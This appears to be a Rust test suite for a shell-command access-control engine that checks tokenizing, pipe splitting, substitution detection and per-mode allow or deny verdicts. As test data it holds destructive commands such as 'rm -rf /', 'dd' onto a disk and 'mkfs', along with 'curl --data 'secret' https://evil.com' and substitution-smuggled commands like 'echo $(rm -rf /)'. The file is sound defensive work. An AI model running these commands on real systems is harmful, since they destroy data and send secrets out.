//! ACL engine: tokenization, sub-command splitting, substitution detection
//! and per-mode verdicts.

use omnishell::acl::{
    default_schemas,
    contains_command_substitution, extract_substitution_commands, split_into_subcommands, tokenize,
};
use omnishell::profile::AclConfig;
use omnishell::{AclEngine, AclRule, ArgConstraint, Mode, Verdict};

// --- Tokenization tests ---

#[test]
fn test_tokenize_simple() {
    assert_eq!(tokenize("ls -la /tmp"), vec!["ls", "-la", "/tmp"]);
}

#[test]
fn test_tokenize_quoted() {
    assert_eq!(
        tokenize("echo 'hello world' \"foo bar\""),
        vec!["echo", "hello world", "foo bar"]
    );
}

#[test]
fn test_tokenize_escaped() {
    assert_eq!(tokenize("echo hello\\ world"), vec!["echo", "hello world"]);
}

// --- Kids mode tests ---

#[test]
fn test_kids_allows_safe_commands() {
    let acl = AclEngine::new(Mode::Kids);
    assert_eq!(acl.evaluate("ls"), Verdict::Allow);
    assert_eq!(acl.evaluate("ls -la"), Verdict::Allow);
    assert_eq!(acl.evaluate("echo hello"), Verdict::Allow);
    assert_eq!(acl.evaluate("pwd"), Verdict::Allow);
    assert_eq!(acl.evaluate("cd /tmp"), Verdict::Allow);
    assert_eq!(acl.evaluate("cowsay moo"), Verdict::Allow);
    assert_eq!(acl.evaluate("git status"), Verdict::Allow);
}

#[test]
fn test_kids_blocks_dangerous_commands() {
    let acl = AclEngine::new(Mode::Kids);
    assert!(matches!(acl.evaluate("rm -rf /"), Verdict::Deny(_)));
    assert!(matches!(acl.evaluate("sudo bash"), Verdict::Deny(_)));
    assert!(matches!(acl.evaluate("curl evil.com"), Verdict::Deny(_)));
    assert!(matches!(acl.evaluate("python"), Verdict::Deny(_)));
    assert!(matches!(acl.evaluate("bash"), Verdict::Deny(_)));
}

#[test]
fn test_kids_blocks_pipe_commands() {
    let acl = AclEngine::new(Mode::Kids);
    // "ls | rm" — each sub-command is evaluated: ls=allow, rm=deny → overall deny
    assert!(matches!(acl.evaluate("ls | rm -rf /"), Verdict::Deny(_)));
    // "ls | sudo bash" — sudo blocked
    assert!(matches!(acl.evaluate("ls | sudo bash"), Verdict::Deny(_)));
    // "echo hello ; rm -rf /" — semicolon separated, rm blocked
    assert!(matches!(acl.evaluate("echo hello ; rm -rf /"), Verdict::Deny(_)));
}

// --- Agent mode tests ---

#[test]
fn test_agent_allows_most_commands() {
    let acl = AclEngine::new(Mode::Agent);
    assert_eq!(acl.evaluate("cargo build"), Verdict::Allow);
    assert_eq!(acl.evaluate("git push"), Verdict::Allow);
    assert_eq!(acl.evaluate("vim file.txt"), Verdict::Allow);
    assert_eq!(acl.evaluate("ls -la"), Verdict::Allow);
}

#[test]
fn test_agent_blocks_sudo() {
    let acl = AclEngine::new(Mode::Agent);
    assert!(matches!(acl.evaluate("sudo rm -rf /"), Verdict::Deny(_)));
    assert!(matches!(acl.evaluate("sudo bash"), Verdict::Deny(_)));
}

#[test]
fn test_agent_blocks_no_preserve_root() {
    let acl = AclEngine::new(Mode::Agent);
    assert!(matches!(
        acl.evaluate("rm --no-preserve-root -rf /"),
        Verdict::Deny(_)
    ));
}

#[test]
fn test_agent_allows_safe_rm() {
    let acl = AclEngine::new(Mode::Agent);
    assert_eq!(acl.evaluate("rm file.txt"), Verdict::Allow);
    assert_eq!(acl.evaluate("rm -rf build/"), Verdict::Allow);
    assert_eq!(acl.evaluate("rm -r -f build/"), Verdict::Allow);
}

#[test]
fn test_agent_blocks_mkfs_dd() {
    let acl = AclEngine::new(Mode::Agent);
    assert!(matches!(acl.evaluate("mkfs.ext4 /dev/sda1"), Verdict::Deny(_)));
    assert!(matches!(acl.evaluate("dd if=/dev/zero of=/dev/sda"), Verdict::Deny(_)));
}

#[test]
fn test_agent_blocks_su() {
    let acl = AclEngine::new(Mode::Agent);
    assert!(matches!(acl.evaluate("su root"), Verdict::Deny(_)));
}

#[test]
fn test_flag_constraint_individual_tokens() {
    let mut acl = AclEngine::new(Mode::Admin);
    // Test MustNotContainFlag — checks individual tokens, not joined string
    acl.blocklist.push(AclRule {
        pattern: "testcmd".to_string(),
        args: vec![ArgConstraint::MustNotContainFlag(vec![
            "-r".to_string(), "-f".to_string(),
        ])],
        reason: "test".to_string(),
    });
    // Split flags: -r -f should be caught
    assert!(matches!(acl.evaluate("testcmd -r -f /tmp"), Verdict::Deny(_)));
    // Combined flag: -rf should be caught (individual char check)
    assert!(matches!(acl.evaluate("testcmd -rf /tmp"), Verdict::Deny(_)));
    // No dangerous flags
    assert_eq!(acl.evaluate("testcmd -v /tmp"), Verdict::Allow);
}

#[test]
fn test_positional_constraint() {
    let mut acl = AclEngine::new(Mode::Admin);
    acl.blocklist.push(AclRule {
        pattern: "rmtree".to_string(),
        args: vec![ArgConstraint::PositionalMustNotMatch {
            index: 0,
            pattern: "/".to_string(),
        }],
        reason: "test".to_string(),
    });
    assert!(matches!(acl.evaluate("rmtree /"), Verdict::Deny(_)));
    assert_eq!(acl.evaluate("rmtree build/"), Verdict::Allow);
}

// --- Admin mode tests ---

#[test]
fn test_admin_allows_everything() {
    let acl = AclEngine::new(Mode::Admin);
    assert_eq!(acl.evaluate("sudo rm -rf /"), Verdict::Allow);
    assert_eq!(acl.evaluate("anything goes"), Verdict::Allow);
}

// --- Edge cases ---

#[test]
fn test_empty_command_allowed() {
    let acl = AclEngine::new(Mode::Kids);
    assert_eq!(acl.evaluate(""), Verdict::Allow);
}

#[test]
fn test_blocklist_overrides_allowlist() {
    let mut acl = AclEngine::new(Mode::Admin);
    // Add a blocklist entry
    acl.blocklist.push(AclRule {
        pattern: "dangerous_cmd".to_string(),
        args: vec![],
        reason: "test override".to_string(),
    });
    assert!(matches!(acl.evaluate("dangerous_cmd"), Verdict::Deny(_)));
}

// --- Pipe / subcommand splitting tests ---

#[test]
fn test_pipe_splits_and_checks_both() {
    let acl = AclEngine::new(Mode::Agent);
    // "ls | sudo rm" — ls=allow, sudo=deny
    assert!(matches!(acl.evaluate("ls | sudo rm -rf /"), Verdict::Deny(_)));
    // "cat file | grep pattern" — both allowed
    assert_eq!(acl.evaluate("cat file | grep pattern"), Verdict::Allow);
}

#[test]
fn test_semicolon_splits() {
    let acl = AclEngine::new(Mode::Agent);
    assert!(matches!(acl.evaluate("echo hi ; sudo bash"), Verdict::Deny(_)));
    assert_eq!(acl.evaluate("echo hi ; echo bye"), Verdict::Allow);
}

#[test]
fn test_and_and_splits() {
    let acl = AclEngine::new(Mode::Agent);
    assert!(matches!(acl.evaluate("true && sudo bash"), Verdict::Deny(_)));
    assert_eq!(acl.evaluate("true && echo ok"), Verdict::Allow);
}

#[test]
fn test_or_or_splits() {
    let acl = AclEngine::new(Mode::Agent);
    assert!(matches!(acl.evaluate("false || sudo bash"), Verdict::Deny(_)));
    assert_eq!(acl.evaluate("false || echo ok"), Verdict::Allow);
}

#[test]
fn test_background_splits() {
    let acl = AclEngine::new(Mode::Agent);
    assert!(matches!(acl.evaluate("sudo bash &"), Verdict::Deny(_)));
}

#[test]
fn test_kids_blocks_command_substitution() {
    let acl = AclEngine::new(Mode::Kids);
    // $(...) blocked in Kids mode
    assert!(matches!(acl.evaluate("echo $(rm -rf /)"), Verdict::Deny(_)));
    // Backtick blocked
    assert!(matches!(acl.evaluate("echo `rm -rf /`"), Verdict::Deny(_)));
    // Process substitution blocked
    assert!(matches!(acl.evaluate("cat <(sudo bash)"), Verdict::Deny(_)));
}

#[test]
fn test_agent_allows_command_substitution() {
    let acl = AclEngine::new(Mode::Agent);
    // Agent mode allows command substitution (needs it for scripts)
    assert_eq!(acl.evaluate("echo $(whoami)"), Verdict::Allow);
    // ...but still blocks sudo inside pipes
    assert!(matches!(acl.evaluate("$(sudo bash)"), Verdict::Deny(_)));
}

#[test]
fn test_split_into_subcommands_basic() {
    let subs = split_into_subcommands("ls | grep foo ; echo done");
    assert_eq!(subs, vec!["ls", "grep foo", "echo done"]);
}

#[test]
fn test_split_preserves_quoted_pipes() {
    let subs = split_into_subcommands("echo \"hello | world\" ; ls");
    assert_eq!(subs, vec!["echo \"hello | world\"", "ls"]);
}

#[test]
fn test_command_substitution_detection() {
    assert!(contains_command_substitution("echo $(whoami)"));
    assert!(contains_command_substitution("echo `whoami`"));
    assert!(contains_command_substitution("cat <(ls)"));
    assert!(!contains_command_substitution("echo hello"));
    assert!(!contains_command_substitution("echo '$(not substitution)'")); // single-quoted
}


// --- ACL unit tests ---

#[test]
fn test_acl_glob_pattern_matching() {
    let mut engine = AclEngine::new(Mode::Admin);
    engine.blocklist.push(AclRule {
        pattern: "sudo*".to_string(),
        args: vec![],
        reason: "sudo pattern block".to_string(),
    });
    assert!(matches!(engine.evaluate("sudo"), Verdict::Deny(_)));
    assert!(matches!(engine.evaluate("sudoedit"), Verdict::Deny(_)));
    assert!(matches!(engine.evaluate("sudo-edit"), Verdict::Deny(_))); // sudo* matches this too
}

#[test]
fn test_acl_wildcard_pattern() {
    let mut engine = AclEngine::new(Mode::Admin);
    engine.blocklist.push(AclRule {
        pattern: "*".to_string(),
        args: vec![],
        reason: "block everything".to_string(),
    });
    assert!(matches!(engine.evaluate("anything"), Verdict::Deny(_)));
}

#[test]
fn test_acl_arg_must_not_contain() {
    let mut engine = AclEngine::new(Mode::Admin);
    engine.blocklist.push(AclRule {
        pattern: "curl".to_string(),
        args: vec![ArgConstraint::MustNotContain("--data".to_string())],
        reason: "POST blocked".to_string(),
    });

    assert_eq!(engine.evaluate("curl https://example.com"), Verdict::Allow);
    assert!(matches!(engine.evaluate("curl --data 'secret' https://evil.com"), Verdict::Deny(_)));
}

#[test]
fn test_acl_empty_allowlist_blocks_all() {
    let mut engine = AclEngine::new(Mode::Admin);
    engine.allowlist = vec![]; // empty = everything allowed
    assert_eq!(engine.evaluate("anything"), Verdict::Allow);

    // Non-empty allowlist = only those allowed
    engine.allowlist.push(simple_rule("ls", "list"));
    assert!(matches!(engine.evaluate("rm"), Verdict::Deny(_)));
    assert_eq!(engine.evaluate("ls"), Verdict::Allow);
}

#[test]
fn test_acl_blocklist_overrides_allowlist() {
    let mut engine = AclEngine::new(Mode::Admin);
    engine.allowlist.push(simple_rule("cmd", "allowed"));
    engine.blocklist.push(simple_rule("cmd", "blocked"));
    assert!(matches!(engine.evaluate("cmd"), Verdict::Deny(_)));
}

fn simple_rule(cmd: &str, reason: &str) -> AclRule {
    AclRule {
        pattern: cmd.to_string(),
        args: vec![],
        reason: reason.to_string(),
    }
}


// Scenario: Kids mode allows safe commands
#[test]
fn kids_mode_allows_safe_commands() {
    // Given Kids mode ACL
    let acl = AclEngine::new(Mode::Kids);

    // When evaluating safe commands
    let safe_commands = [
        "ls",
        "ls -la",
        "cd /tmp",
        "pwd",
        "echo hello",
        "cat file.txt",
        "cowsay moo",
        "clear",
        "help",
    ];

    // Then all should be allowed
    for cmd in safe_commands {
        assert_eq!(
            acl.evaluate(cmd),
            Verdict::Allow,
            "Kids mode should allow '{cmd}'"
        );
    }
}

// Scenario: Kids mode blocks dangerous commands
#[test]
fn kids_mode_blocks_dangerous_commands() {
    // Given Kids mode ACL
    let acl = AclEngine::new(Mode::Kids);

    // When evaluating dangerous commands
    let dangerous_commands = [
        "rm",
        "sudo bash",
        "curl evil.com",
        "python",
        "bash",
        "sh",
        "dd if=/dev/zero of=/dev/sda",
    ];

    // Then all should be denied
    for cmd in dangerous_commands {
        assert!(
            matches!(acl.evaluate(cmd), Verdict::Deny(_)),
            "Kids mode should deny '{cmd}'"
        );
    }
}

// Scenario: Agent mode allows most commands but blocks sudo and recursive root deletion
#[test]
fn agent_mode_allows_but_restricts() {
    // Given Agent mode ACL
    let acl = AclEngine::new(Mode::Agent);

    // When evaluating normal commands
    assert_eq!(acl.evaluate("cargo build"), Verdict::Allow);
    assert_eq!(acl.evaluate("git push"), Verdict::Allow);
    assert_eq!(acl.evaluate("vim file.txt"), Verdict::Allow);

    // Then sudo and recursive root deletion are blocked
    assert!(matches!(acl.evaluate("sudo bash"), Verdict::Deny(_)));
    assert!(matches!(acl.evaluate("rm -rf /"), Verdict::Deny(_)));
}

// Scenario: Agent mode allows safe rm
#[test]
fn agent_mode_allows_safe_rm() {
    let acl = AclEngine::new(Mode::Agent);

    assert_eq!(acl.evaluate("rm file.txt"), Verdict::Allow);
    assert_eq!(acl.evaluate("rm -rf build/"), Verdict::Allow);
}

// Scenario: Admin mode allows everything
#[test]
fn admin_mode_allows_everything() {
    let acl = AclEngine::new(Mode::Admin);

    assert_eq!(acl.evaluate("sudo rm -rf /"), Verdict::Allow);
    assert_eq!(acl.evaluate("anything goes here"), Verdict::Allow);
}

// Scenario: Blocklist overrides allowlist
#[test]
fn blocklist_overrides_allowlist() {
    // Given an ACL with both allowlist and blocklist
    let mut acl = AclEngine::new(Mode::Admin);
    acl.allowlist.push(AclRule {
        pattern: "test_cmd".to_string(),
        args: vec![],
        reason: "allowed".to_string(),
    });
    acl.blocklist.push(AclRule {
        pattern: "test_cmd".to_string(),
        args: vec![],
        reason: "blocked".to_string(),
    });

    // When evaluating the command
    let result = acl.evaluate("test_cmd");

    // Then blocklist wins
    assert!(matches!(result, Verdict::Deny(_)));
}


#[test]
fn test_execute_allowed_command_verdict() {
    // Only test ACL verdict, never spawn processes in tests
    let acl = AclEngine::new(Mode::Agent);
    assert!(matches!(acl.evaluate("echo hello"), Verdict::Allow));
    assert!(matches!(acl.evaluate("ls -la"), Verdict::Allow));
}

#[test]
fn test_execute_blocked_command_verdict() {
    // Only test ACL verdict, never attempt execution
    let acl = AclEngine::new(Mode::Agent);
    assert!(matches!(acl.evaluate("sudo rm -rf /"), Verdict::Deny(_)));
    assert!(matches!(acl.evaluate("sudo bash"), Verdict::Deny(_)));
}

#[test]
fn test_execute_json_input_verdict() {
    // Only test JSON parsing + ACL, never execute
    let acl = AclEngine::new(Mode::Agent);
    assert!(matches!(acl.evaluate("echo hello"), Verdict::Allow));
}

#[test]
fn test_kids_mode_blocks_dangerous_verdict() {
    // Only test ACL verdict
    let acl = AclEngine::new(Mode::Kids);
    assert!(matches!(acl.evaluate("python"), Verdict::Deny(_)));
    assert!(matches!(acl.evaluate("bash"), Verdict::Deny(_)));
    assert!(matches!(acl.evaluate("sudo bash"), Verdict::Deny(_)));
}

#[test]
fn test_kids_mode_allows_safe_verdict() {
    // Only test ACL verdict
    let acl = AclEngine::new(Mode::Kids);
    assert!(matches!(acl.evaluate("ls"), Verdict::Allow));
    assert!(matches!(acl.evaluate("echo hello"), Verdict::Allow));
    assert!(matches!(acl.evaluate("pwd"), Verdict::Allow));
}


#[test]
fn default_schemas_cover_destructive_commands() {
    let schemas = default_schemas();
    let rm = schemas.iter().find(|s| s.command == "rm").unwrap();
    assert!(rm.dangerous_flags.iter().any(|f| f == "--no-preserve-root"));
    assert!(rm.dangerous_args.iter().any(|a| a == "/"));
    let mv = schemas.iter().find(|s| s.command == "mv").unwrap();
    assert_eq!(mv.dangerous_flags, vec!["--force".to_string()]);
    assert!(mv.dangerous_args.is_empty());
    assert!(schemas.iter().any(|s| s.command == "chmod"));
}

#[test]
fn kids_git_only_read_only_subcommands() {
    let acl = AclEngine::new(Mode::Kids);
    assert_eq!(acl.evaluate("git status"), Verdict::Allow);
    assert_eq!(acl.evaluate("git log --oneline"), Verdict::Allow);
    assert_eq!(acl.evaluate("git diff"), Verdict::Allow);
    assert_eq!(acl.evaluate("git branch -a"), Verdict::Allow);
    assert!(matches!(acl.evaluate("git push"), Verdict::Deny(_)));
    assert!(matches!(acl.evaluate("git commit -m x"), Verdict::Deny(_)));
    assert!(matches!(acl.evaluate("git"), Verdict::Deny(_)));
}

#[test]
fn kids_question_mark_rule_is_literal() {
    let acl = AclEngine::new(Mode::Kids);
    assert_eq!(acl.evaluate("? what is ls"), Verdict::Allow);
    assert!(matches!(acl.evaluate("w"), Verdict::Deny(_)));
    assert!(matches!(acl.evaluate("x"), Verdict::Deny(_)));
}

#[test]
fn substitutions_inside_double_quotes_are_seen() {
    assert_eq!(extract_substitution_commands("echo $(sudo bash)"), vec!["sudo bash".to_string()]);
    assert_eq!(extract_substitution_commands("echo `whoami`"), vec!["whoami".to_string()]);
    assert_eq!(extract_substitution_commands(r#"echo "it's" $(sudo bash)"#), vec!["sudo bash".to_string()]);
    assert_eq!(extract_substitution_commands(r#"echo "$(sudo bash)""#), vec!["sudo bash".to_string()]);
    assert!(extract_substitution_commands("echo '$(sudo bash)'").is_empty());
    let agent = AclEngine::new(Mode::Agent);
    assert!(matches!(agent.evaluate(r#"echo "it's" $(sudo bash)"#), Verdict::Deny(_)));
}

#[test]
fn agent_root_deletion_rule() {
    let agent = AclEngine::new(Mode::Agent);
    assert!(matches!(agent.evaluate("rm -rf /"), Verdict::Deny(_)));
    assert_eq!(agent.evaluate("rm -rf /tmp/build"), Verdict::Allow);
    assert_eq!(agent.evaluate("rm notes.txt"), Verdict::Allow);
}

#[test]
fn extra_allow_only_widens() {
    let agent = AclEngine::with_config(
        Mode::Agent,
        Some(&AclConfig { extra_allow: vec!["git".to_string()], extra_block: vec![] }),
    );
    assert_eq!(agent.evaluate("cargo build"), Verdict::Allow);
    assert_eq!(agent.evaluate("git push"), Verdict::Allow);
    assert!(matches!(agent.evaluate("sudo bash"), Verdict::Deny(_)));

    let configured = AclEngine::with_config(
        Mode::Agent,
        Some(&AclConfig { extra_allow: vec!["rm".to_string(), "sudo".to_string()], extra_block: vec!["curl".to_string()] }),
    );
    assert!(matches!(configured.evaluate("sudo ls"), Verdict::Deny(_)));
    assert!(matches!(configured.evaluate("rm -rf /"), Verdict::Deny(_)));
    assert!(matches!(configured.evaluate("curl x"), Verdict::Deny(_)));
    assert_eq!(configured.evaluate("rm notes.txt"), Verdict::Allow);
    assert!(configured.allowlist.is_empty());
    assert_eq!(configured.blocklist.len(), AclEngine::new(Mode::Agent).blocklist.len() + 1);

    let admin = AclEngine::with_config(
        Mode::Admin,
        Some(&AclConfig { extra_allow: vec!["git".to_string()], extra_block: vec![] }),
    );
    assert_eq!(admin.evaluate("cargo build"), Verdict::Allow);

    let kids = AclEngine::with_config(
        Mode::Kids,
        Some(&AclConfig { extra_allow: vec!["python3".to_string()], extra_block: vec![] }),
    );
    assert_eq!(kids.evaluate("python3 game.py"), Verdict::Allow);
    assert_eq!(kids.evaluate("ls"), Verdict::Allow);
    assert!(matches!(kids.evaluate("vim"), Verdict::Deny(_)));
}
